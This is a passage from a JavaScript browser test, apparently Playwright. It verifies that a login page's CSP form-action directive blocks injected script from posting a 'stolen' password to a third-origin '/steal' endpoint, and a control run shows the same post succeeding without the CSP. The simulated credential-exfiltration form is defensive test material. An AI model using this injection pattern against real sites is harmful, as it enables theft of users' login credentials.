            const timer = setTimeout(() => resolve(null), 5_000);
            document.addEventListener(
              'securitypolicyviolation',
              (event) => {
                clearTimeout(timer);
                resolve({ effectiveDirective: event.effectiveDirective, blockedURI: event.blockedURI, disposition: event.disposition });
              },
              { once: true },
            );
            const form = document.createElement('form');
            form.method = 'post';
            form.action = action;
            const field = document.createElement('input');
            field.name = 'password';
            field.value = 'stolen';
            form.append(field);
            document.body.append(form);
            form.submit();
          }),
        steal,
      );
    } catch (err) {
      throw new Error(`the form to ${steal} was not refused: the login page went away (${err.message.split('\n')[0]}); now at ${page.url()}`);
    }
    assert.ok(violation, `a securitypolicyviolation event for the form to ${steal}`);
    assert.equal(violation.effectiveDirective, 'form-action');
    assert.equal(violation.disposition, 'enforce');
    await sleep(1_000);
    assert.deepEqual(evil.received, [], 'nothing reached the third origin');
    assert.equal(new URL(page.url()).pathname, '/u/login', 'still on the login page');
    assert.ok(page.problems.some((p) => /form-action/.test(p)), `the refusal was reported: ${JSON.stringify(page.problems)}`);
    await screenshot(page, 'cross-origin-form-refused');

    // The same form from a page without that CSP does reach the third
    // origin: the refusal above was the CSP's, not an unreachable server.
    await page.goto(`${rp.origin}/`);
    await page.evaluate((action) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = action;
      const field = document.createElement('input');
      field.name = 'control';
      field.value = 'yes';
      form.append(field);
      document.body.append(form);
      form.submit();
    }, steal);
    await page.getByTestId('evil-page').waitFor({ timeout: UI_TIMEOUT });
    assert.deepEqual(
      evil.received.filter(({ url }) => url !== '/favicon.ico').map(({ method, url, body }) => ({ method, url, body })),
      [{ method: 'POST', url: '/steal', body: 'control=yes' }],
    );
  } finally {
    await context.close();
  }
});
